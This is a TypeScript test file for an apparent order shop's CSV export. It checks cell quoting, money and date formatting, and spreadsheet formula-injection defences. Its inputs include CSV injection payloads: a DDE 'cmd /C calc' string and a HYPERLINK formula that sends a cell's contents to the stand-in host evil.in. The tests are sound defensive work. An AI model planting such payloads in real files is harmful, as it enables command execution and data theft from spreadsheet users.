import { describe, expect, it } from "vitest";
import { EXPORT_HEADERS, type ExportCell, type ExportOrder, exportCells, paymentSource } from "./export-columns";
import { csvField, csvLine, csvNumber, neutraliseFormula } from "./export.server";

/**
 * The cells a reader would see if it split a CSV cell on any usual separator,
 * ignoring quotes, and then dropped a quote each part starts with.
 */
function cellsSplitOnAnything(cell: string): string[] {
  return cell.split(/[,;\t|\r\n]/).flatMap((part) => [part, part.replace(/^"/, "")]);
}

describe("CSV cells", () => {
  it("quotes every cell and doubles embedded quotes", () => {
    expect(csvField("plain")).toBe('"plain"');
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("")).toBe('""');
  });

  it.each([
    ["=HYPERLINK(1)", "'=HYPERLINK(1)"],
    ["@cmd", "'@cmd"],
    ['+1+HYPERLINK("http://evil.in","x")', '\'+1+HYPERLINK("http://evil.in","x")'],
    ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["+919812345678", "'+919812345678"],
    ["\t=1+2", "'\t'=1+2"],
    ["\r=1+2", "'\r'=1+2"],
    ["\n=1+2", "'\n'=1+2"],
    ["\tplain", "'\tplain"],
    ["  =1+2", "'  =1+2"],
  ])("prefixes a cell that starts like a formula: %j", (value, expected) => {
    expect(neutraliseFormula(value)).toBe(expected);
  });

  it.each([
    ["a;=1+2", "a;'=1+2"],
    ["a,=1+2", "a,'=1+2"],
    ["a|=1+2", "a|'=1+2"],
    ["a\t@SUM(1)", "a\t'@SUM(1)"],
    ["a\r\n-1+1", "a\r'\n'-1+1"],
    ['=1+2";=1+2', "'=1+2\";'=1+2"],
    ["x; +1+1", "x;' +1+1"],
    ["x;\t=1", "x;'\t'=1"],
  ])("neutralises a formula after a separator a spreadsheet may split on: %j", (value, expected) => {
    expect(neutraliseFormula(value)).toBe(expected);
  });

  it("leaves ordinary text as it is", () => {
    for (const value of [
      "Priya Sharma",
      "priya.bakes",
      "https://www.instagram.com/p/Cabc123/?igsh=x=1",
      "Rao, Ravi",
      "Anne-Marie",
      "Ravi - Delhi",
      "a+b",
      "user@example.com",
      "N/A",
      "priya'=1",
      'say "=1"',
    ]) {
      expect(neutraliseFormula(value), value).toBe(value);
    }
  });

  it("no cell a reader could make of a hostile value starts a formula, however it splits", () => {
    const hostile = [
      "=1+2",
      "-1+cmd|' /C calc'!A0",
      '+1+HYPERLINK("http://evil.in?"&A1,"Click")',
      "a;=1+2",
      "a,-1+1|@SUM(A1)\t+2",
      '=1+2";=1+2',
      "=1+2'\" ;,=1+2",
      "x\r\n=2+2",
      " ;\t|=3",
    ];
    for (const value of hostile) {
      const cell = csvField(value);
      for (const part of [cell.slice(1, -1).replace(/""/g, '"'), ...cellsSplitOnAnything(cell)]) {
        expect(part.trimStart(), `${JSON.stringify(value)} → ${JSON.stringify(part)}`).not.toMatch(/^[=+\-@]/);
      }
    }
  });

  it("keeps the server's own numbers numbers, and defuses anything else in their columns", () => {
    expect(csvNumber("-12.50")).toBe('"-12.50"');
    expect(csvNumber("349.00")).toBe('"349.00"');
    expect(csvNumber("1000")).toBe('"1000"');
    expect(csvNumber("N/A")).toBe('"N/A"');
    expect(csvNumber("-1+1")).toBe('"\'-1+1"');
  });

  it("writes a line with numbers in the number columns, the phone as digits and defused text elsewhere", () => {
    const cells: ExportCell[] = [
      { kind: "text", value: "BK0000000001" },
      { kind: "text", value: "=cmd" },
      { kind: "phone", value: "+919812345678" },
      { kind: "text", value: "followers" },
      { kind: "text", value: "a;-1+1" },
      { kind: "count", value: 1000 },
      { kind: "money", paise: 34_900 },
      { kind: "money", paise: -1_250 },
      { kind: "text", value: "completed" },
      { kind: "date", ms: Date.UTC(2025, 2, 15, 6, 30) },
      { kind: "text", value: null },
      { kind: "money", paise: null },
      { kind: "phone", value: "+1-555=cmd" },
      { kind: "phone", value: null },
    ];
    expect(csvLine(cells)).toBe(
      `"BK0000000001","'=cmd","9812345678","followers","a;'-1+1","1000","349.00","-12.50","completed","2025-03-15 12:00:00","N/A","N/A","'+1-555=cmd","N/A"\r\n`,
    );
  });
});

describe("the export's columns", () => {
  const order: ExportOrder = {
    id: 1,
    order_id: "BK7Q2M9XD4TA",
    customer_name: "Priya Sharma",
    customer_phone: "+919812345678",
    service_type: "followers",
    target: "priya.bakes",
    quantity: 1000,
    price_paise: 19_899,
    listed_price_paise: 19_900,
    profit_paise: 19_899,
    status: "refunded",
    created_at: Date.UTC(2026, 10, 22, 6, 30),
    panel_order_id: null,
    panel_status: null,
    panel_charge: null,
    panel_currency: null,
    utr: "412345678901",
    paid_at: Date.UTC(2026, 10, 22, 6, 32),
    paid_by: "bank-alert:email",
    refund_due_paise: 18_904,
    refund_compensation_paise: null,
    refunded_at: Date.UTC(2026, 10, 23, 6, 30),
    refund_reference: "512345678901",
    plan_name: "Popular Followers",
    payment_received_paise: 19_899,
    receiving_upi_id: "shop@okaxis",
    coupon_code: null,
    discount_paise: 0,
  };

  it("keeps the spec's columns first, in their order, then what a bank statement is matched against", () => {
    expect(EXPORT_HEADERS).toEqual([
      "Order ID",
      "Customer Name",
      "Phone Number",
      "Service Type",
      "Target",
      "Quantity",
      "Price (₹)",
      "Profit (₹)",
      "Status",
      "Created At",
      "SMM Panel Order ID",
      "SMM Panel Status",
      "SMM Panel Charge",
      "SMM Panel Currency",
      "UTR",
      "Paid Amount (₹)",
      "Paid At",
      "Listed Price (₹)",
      "Refund Due (₹)",
      "Refunded (₹)",
      "Refund Reference",
      "Plan Name",
      "Payment Source",
      "Over / Short (₹)",
      "Paid To (UPI ID)",
      "Cancellation Compensation (₹)",
      "Coupon Code",
      "Discount (₹)",
    ]);
  });

  it("writes the coupon an order was bought with and what it took off; nothing without one", () => {
    const cells = (o: ExportOrder) => {
      const line = csvLine(exportCells(o)).trimEnd().split(",");
      return (header: string) => line[EXPORT_HEADERS.indexOf(header)];
    };
    const plain = cells(order);
    expect([plain("Coupon Code"), plain("Discount (₹)")]).toEqual(['"N/A"', '"N/A"']);
    // A ₹249 plan with FIRST20 (20% off, ₹49.80): ₹199.20 listed, the amount to pay a few paise less.
    const coupon = cells({ ...order, coupon_code: "FIRST20", discount_paise: 4_980, listed_price_paise: 19_920 });
    expect([coupon("Coupon Code"), coupon("Discount (₹)"), coupon("Listed Price (₹)")]).toEqual([
      '"FIRST20"',
      '"49.80"',
      '"199.20"',
    ]);
  });

  it("writes the profit net of the refund, and the refund as refunded with its reference", () => {
    const line = csvLine(exportCells(order)).trimEnd().split(",");
    const at = (header: string) => line[EXPORT_HEADERS.indexOf(header)];
    // ₹198.99 paid, nothing charged by the panel, ₹189.04 refunded: ₹9.95 profit.
    expect(at("Profit (₹)")).toBe('"9.95"');
    expect(at("Refund Due (₹)")).toBe('"N/A"');
    expect(at("Refunded (₹)")).toBe('"189.04"');
    expect(at("Refund Reference")).toBe('"512345678901"');
    expect(at("Paid Amount (₹)")).toBe('"198.99"');
    expect(at("Listed Price (₹)")).toBe('"199.00"');
    expect(at("Paid At")).toBe('"2026-11-22 12:02:00"');
    expect(at("Payment Source")).toBe('"Bank alert (email)"');
    const owed = csvLine(exportCells({ ...order, status: "refund_due", refunded_at: null, refund_reference: null }));
    expect(owed.split(",")[EXPORT_HEADERS.indexOf("Refund Due (₹)")]).toBe('"189.04"');
  });

  it("shows what the shop paid on top of a refund when it cancelled, inside the refund", () => {
    // ₹198.99 cancelled by the shop at 5%: ₹9.95 on top, ₹208.94 refunded.
    const shop = { ...order, refund_due_paise: 20_894, refund_compensation_paise: 995 };
    const line = csvLine(exportCells(shop)).trimEnd().split(",");
    const at = (header: string) => line[EXPORT_HEADERS.indexOf(header)];
    expect(at("Refunded (₹)")).toBe('"208.94"');
    expect(at("Cancellation Compensation (₹)")).toBe('"9.95"');
    expect(at("Profit (₹)")).toBe('"-9.95"');
  });

  it("writes what was paid, a surplus or a shortfall against the price, and the UPI ID it was paid to", () => {
    const cells = (o: ExportOrder) => {
      const line = csvLine(exportCells(o)).trimEnd().split(",");
      return (header: string) => line[EXPORT_HEADERS.indexOf(header)];
    };
    const exact = cells(order);
    expect(exact("Over / Short (₹)")).toBe('"N/A"');
    expect(exact("Paid To (UPI ID)")).toBe('"shop@okaxis"');
    // ₹777 assigned to a ₹198.99 order: ₹578.01 owed back; ₹199 for it (rounded): 1 paisa over.
    const surplus = cells({ ...order, payment_received_paise: 77_700 });
    expect(surplus("Paid Amount (₹)")).toBe('"777.00"');
    expect(surplus("Over / Short (₹)")).toBe('"578.01"');
    expect(cells({ ...order, payment_received_paise: 19_800 })("Over / Short (₹)")).toBe('"-0.99"');
  });

  it("names where a payment's confirmation came from", () => {
    expect(paymentSource({ paid_at: 1, paid_by: "owner" })).toBe("Operator (owner)");
    expect(paymentSource({ paid_at: 1, paid_by: "operator" })).toBe("Operator");
    expect(paymentSource({ paid_at: 1, paid_by: "operator:owner" })).toBe("Operator (owner)");
    expect(paymentSource({ paid_at: 1, paid_by: "gateway:razorpay" })).toBe("Gateway (razorpay)");
    expect(paymentSource({ paid_at: null, paid_by: null })).toBeNull();
  });
});
